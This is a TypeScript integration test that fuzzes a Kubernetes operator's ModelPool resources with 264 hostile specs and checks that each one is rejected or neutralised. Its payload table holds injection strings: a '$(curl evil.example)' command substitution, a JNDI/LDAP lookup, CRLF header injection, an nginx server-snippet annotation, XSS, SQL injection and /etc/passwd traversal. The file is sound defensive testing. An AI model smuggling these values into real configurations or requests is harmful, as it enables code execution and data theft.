// 200+ invalid or hostile ModelPools (huge strings, unicode tricks, injection attempts into annotations,
// headers and templates) applied to the real API server with the operator running. Each must be either
// REJECTED at admission with a message that names the field, or ACCEPTED and NEUTRALISED: the pool gets a
// Ready condition (True, or False with a reason), and nothing it carries becomes an annotation key, a header
// line or a second annotation on the generated Ingresses. The operator keeps working throughout.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { ModelPoolObject } from '../../../src/controllers/modelpool.js';
import { modelPoolResource } from '../../../src/controllers/resources.js';
import { KubeClient } from '../../../src/kube/client.js';
import { Resources } from '../../../src/kube/resources.js';
import { startOperator, type Operator } from '../../../src/operator.js';
import { createLogger } from '../../../src/util/log.js';
import { testKubeConfig, uniqueNamespace, waitFor } from '../support/kube.js';
import { errorMessage } from '../../../src/util/errors.js';

const client = KubeClient.fromKubeConfig(testKubeConfig());
let operator: Operator;
beforeAll(async () => {
  operator = await startOperator({ kubeConfig: testKubeConfig(), resyncPeriodMs: 0, log: createLogger('operator', 'silent') });
  await operator.synced;
});
afterAll(async () => {
  await operator?.stop();
});

/** Strings an attacker or a careless generator might put anywhere. */
const PAYLOADS: Record<string, string> = {
  long300: 'a'.repeat(300),
  long5k: 'b'.repeat(5_000),
  long100k: 'c'.repeat(100_000),
  cjk: '模型-通义千问',
  emoji: 'gpt-😀',
  rtlOverride: 'gpt\u202e4o',
  zeroWidth: 'gpt\u200b-4o',
  fullwidth: 'ｇｐｔ',
  nul: 'gpt\u0000x',
  newlineAnnotation: 'x\nnginx.ingress.kubernetes.io/server-snippet: return 200',
  crlfHeader: 'x\r\nX-Injected: 1',
  urlEncodedCrlf: 'x%0d%0aSet-Cookie:a=b',
  goTemplate: '{{ .Values.secret }}',
  shell: '$(curl evil.example)',
  backticks: '`id`',
  jndi: '${jndi:ldap://evil/x}',
  sqlQuote: "' OR 1=1 --",
  html: '</script><script>alert(1)</script>',
  pathTraversal: '../../etc/passwd',
  annotationLike: 'higress.io/destination: evil.svc:80',
  comma: 'a,b=c',
  regexBomb: '^(a+)+$',
  glob: '*',
  jsonBreak: '"},"apiTokens":["stolen"],"x":{"',
  yamlBreak: 'a: b\n- c',
};

/** Where a payload goes, and the field path the API server must name when it refuses it. */
const FIELDS: Array<{ field: string; path: string; set: (spec: Spec, v: string) => void }> = [
  { field: 'model name', path: 'spec.models[0].name', set: (s, v) => (s.models[0]!.name = v) },
  { field: 'upstreamModel', path: 'spec.models[0].upstreamModel', set: (s, v) => (s.models[0]!.upstreamModel = v) },
  { field: 'endpoint', path: 'spec.models[1].provider.endpoint', set: (s, v) => (s.models[1]!.provider.endpoint = `http://${v}`) },
  { field: 'secret name', path: 'spec.models[0].provider.credentials.secretRef.name', set: (s, v) => (s.models[0]!.provider.credentials!.secretRef.name = v) },
  { field: 'secret key', path: 'spec.models[0].provider.credentials.secretRef.key', set: (s, v) => (s.models[0]!.provider.credentials!.secretRef.key = v) },
  { field: 'alias', path: 'spec.alias', set: (s, v) => (s.alias = v) },
  { field: 'gateway path', path: 'spec.gateway.path', set: (s, v) => (s.gateway.path = `/${v}`) },
  { field: 'gateway host', path: 'spec.gateway.hosts[0]', set: (s, v) => (s.gateway.hosts = [v]) },
  { field: 'ingress class', path: 'spec.gateway.ingressClassName', set: (s, v) => (s.gateway.ingressClassName = v) },
  { field: 'fallback entry', path: 'spec.fallback[1]', set: (s, v) => (s.fallback = [s.models[0]!.name, v]) },
];

interface Spec {
  gateway: { namespace: string; path?: string; hosts?: string[]; ingressClassName?: string };
  models: Array<{
    name: string;
    upstreamModel?: string;
    weight?: unknown;
    contextWindow?: unknown;
    provider: { type: string; endpoint?: string; credentials?: { secretRef: { name: string; key: string } } };
  }>;
  alias?: string;
  fallback?: string[];
  retries?: unknown;
  timeoutSeconds?: unknown;
}

function baseSpec(gw: string): Spec {
  return {
    gateway: { namespace: gw },
    models: [
      { name: 'gpt-4o', provider: { type: 'openai', credentials: { secretRef: { name: 'k', key: 'token' } } } },
      { name: 'local', provider: { type: 'vllm', endpoint: 'http://vllm.svc:8000/v1' } },
    ],
  };
}

interface Case {
  name: string;
  path: string;
  spec: Spec;
  metadata?: Record<string, unknown>;
}

function cases(gw: string): Case[] {
  const out: Case[] = [];
  for (const f of FIELDS) {
    for (const [label, payload] of Object.entries(PAYLOADS)) {
      const spec = baseSpec(gw);
      f.set(spec, payload);
      out.push({ name: `${f.field} / ${label}`, path: f.path, spec });
    }
  }
  const numeric: Array<[string, string, (s: Spec) => void]> = [
    ['negative weight', 'spec.models[0].weight', (s) => (s.models[0]!.weight = -1)],
    ['huge weight', 'spec.models[0].weight', (s) => (s.models[0]!.weight = 1e308)],
    ['string weight', 'spec.models[0].weight', (s) => (s.models[0]!.weight = '100; DROP')],
    ['fractional context window', 'spec.models[0].contextWindow', (s) => (s.models[0]!.contextWindow = 1.5)],
    ['huge context window', 'spec.models[0].contextWindow', (s) => (s.models[0]!.contextWindow = 1e20)],
    ['zero timeout', 'spec.timeoutSeconds', (s) => (s.timeoutSeconds = 0)],
    ['retries 11 attempts', 'spec.retries.attempts', (s) => (s.retries = { attempts: 11 })],
    ['retry on injected condition', 'spec.retries.on[0]', (s) => (s.retries = { on: ['error\nX: y'] })],
    [
      '65 models',
      'spec.models',
      (s) => (s.models = Array.from({ length: 65 }, (_, i) => ({ name: `m${i}`, provider: { type: 'vllm', endpoint: 'http://v.svc/v1' } }))),
    ],
    ['17 hosts', 'spec.gateway.hosts', (s) => (s.gateway.hosts = Array.from({ length: 17 }, (_, i) => `h${i}.example.com`))],
    ['unknown provider type', 'spec.models[0].provider.type', (s) => (s.models[0]!.provider.type = 'evil')],
    ['javascript endpoint', 'spec.models[1].provider.endpoint', (s) => (s.models[1]!.provider.endpoint = 'javascript:alert(1)')],
    ['file endpoint', 'spec.models[1].provider.endpoint', (s) => (s.models[1]!.provider.endpoint = 'file:///etc/passwd')],
  ];
  for (const [name, path, mutate] of numeric) {
    const spec = baseSpec(gw);
    mutate(spec);
    out.push({ name, path, spec });
  }
  // The pool's own metadata is not ours to copy: hostile labels/annotations must not reach generated objects.
  out.push({
    name: 'hostile annotations on the pool itself',
    path: 'metadata.annotations',
    spec: baseSpec(gw),
    metadata: { annotations: { 'nginx.ingress.kubernetes.io/server-snippet': 'return 200;', 'higress.io/destination': 'evil.svc:80' } },
  });
  return out;
}

type Outcome = { kind: 'rejected'; message: string } | { kind: 'accepted'; name: string };

describe('hostile and invalid ModelPools', () => {
  it('are rejected with the field named, or accepted and neutralised', async () => {
    const ns = await uniqueNamespace('hostile');
    const gw = await uniqueNamespace('hostile-gw');
    await client.create(Resources.Secret, { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'k', namespace: ns }, stringData: { token: 'sk-hostile' } });
    const all = cases(gw);
    expect(all.length).toBeGreaterThanOrEqual(200);

    const outcomes = new Map<Case, Outcome>();
    let next = 0;
    await Promise.all(
      Array.from({ length: 8 }, async () => {
        while (next < all.length) {
          const i = next++;
          const c = all[i]!;
          const name = `h-${i}`;
          try {
            await client.create(modelPoolResource, {
              apiVersion: 'ai.higress.io/v1alpha1',
              kind: 'ModelPool',
              metadata: { name, namespace: ns, ...(c.metadata ?? {}) },
              spec: c.spec,
            } as unknown as ModelPoolObject);
            outcomes.set(c, { kind: 'accepted', name });
          } catch (e) {
            outcomes.set(c, { kind: 'rejected', message: errorMessage(e) });
          }
        }
      }),
    );

    // Rejected: the message names the field (or, for the metadata case, the API server refused the object).
    const rejected = all.filter((c) => outcomes.get(c)?.kind === 'rejected');
    const unnamed = rejected.filter((c) => {
      const o = outcomes.get(c) as { message: string };
      return !o.message.includes(c.path) && !o.message.includes(c.path.replace(/\[\d+\]$/, ''));
    });
    expect(unnamed.map((c) => `${c.name}: ${(outcomes.get(c) as { message: string }).message.slice(0, 300)}`)).toEqual([]);

    // Accepted: every one gets a Ready condition for its generation (the operator never crash-loops) that is a
    // decision: `Pending` only says the gateway has not taken the pool yet, and must pass.
    const accepted = all.filter((c) => outcomes.get(c)?.kind === 'accepted');
    const names = new Set(accepted.map((c) => (outcomes.get(c) as { name: string }).name));
    const pools = await waitFor(
      async () => {
        const items = (await client.list<ModelPoolObject>(modelPoolResource, { namespace: ns })).items.filter((p) => names.has(p.metadata.name));
        const decided = items.filter((p) =>
          p.status?.conditions?.some((c) => c.type === 'Ready' && c.observedGeneration === p.metadata.generation && c.reason !== 'Pending'),
        );
        if (decided.length === names.size) return items;
        // Thrown, so a timeout names the undecided cases (waitFor reports the last error).
        const undecided = accepted.filter((c) => !decided.some((p) => p.metadata.name === (outcomes.get(c) as { name: string }).name));
        throw new Error(`undecided: ${undecided.map((c) => `${(outcomes.get(c) as { name: string }).name} (${c.name})`).join(', ')}`);
      },
      { timeoutMs: 240_000, intervalMs: 500, description: `a Ready condition on all ${names.size} accepted pools` },
    );
    const notReady = pools.filter((p) => p.status?.conditions?.some((c) => c.type === 'Ready' && c.status === 'False'));
    const caseOf = new Map(accepted.map((c) => [(outcomes.get(c) as { name: string }).name, c]));
    for (const p of notReady) {
      const c = p.status!.conditions!.find((x) => x.type === 'Ready')!;
      expect(c.reason).toMatch(/^[A-Z][A-Za-z]+$/); // a CamelCase reason a human can grep
      expect(c.message.length).toBeGreaterThan(0);
      // A spec the API server let through but the operator refuses names the field, as admission would have.
      if (c.reason === 'InvalidSpec') expect(`${p.metadata.name}: ${c.message}`).toContain(`${p.metadata.name}: ${caseOf.get(p.metadata.name)!.path}`);
    }

    // Neutralised: generated Ingresses carry only the annotations the builder writes (higress.io/* for the
    // gateway, ai.higress.io/* our bookkeeping), with single-line values.
    const ingresses = (await client.list(Resources.Ingress, { namespace: gw })).items;
    const badAnnotations = ingresses.flatMap((ing) =>
      Object.entries(ing.metadata.annotations ?? {})
        .filter(([k, v]) => !/^(ai\.)?higress\.io\//.test(k) || /[\r\n\0]/.test(v) || v.includes('server-snippet') || v.includes('evil.svc'))
        .map(([k, v]) => `${ing.metadata.name}: ${k}=${v.slice(0, 80)}`),
    );
    expect(badAnnotations).toEqual([]);

    // The operator still converges a valid pool afterwards.
    await client.create(modelPoolResource, {
      apiVersion: 'ai.higress.io/v1alpha1',
      kind: 'ModelPool',
      metadata: { name: 'after', namespace: ns },
      spec: baseSpec(gw),
    } as unknown as ModelPoolObject);
    await waitFor(
      async () =>
        (await client.get<ModelPoolObject>(modelPoolResource, 'after', ns))?.status?.conditions?.some((c) => c.type === 'Ready' && c.status === 'True'),
      {
        timeoutMs: 60_000,
        description: 'a valid pool Ready after the hostile batch',
      },
    );
    // By reason: a pool still waiting for the gateway when every pool first had a condition shows `Pending`.
    const reasons = new Map<string, number>();
    for (const p of notReady) {
      const r = p.status!.conditions!.find((x) => x.type === 'Ready')!.reason;
      reasons.set(r, (reasons.get(r) ?? 0) + 1);
    }
    const byReason = [...reasons].map(([r, n]) => `${r} ${n}`).join(', ');
    process.stderr.write(
      `faults: ${all.length} hostile specs: ${rejected.length} rejected at admission naming the field, ${accepted.length} accepted (${accepted.length - notReady.length} Ready, ${notReady.length} Ready=False with a reason: ${byReason}); 0 injected annotations\n`,
    );
  }, 360_000); // 264 pools, each rendered into console objects: minutes on a loaded 2-core machine
});
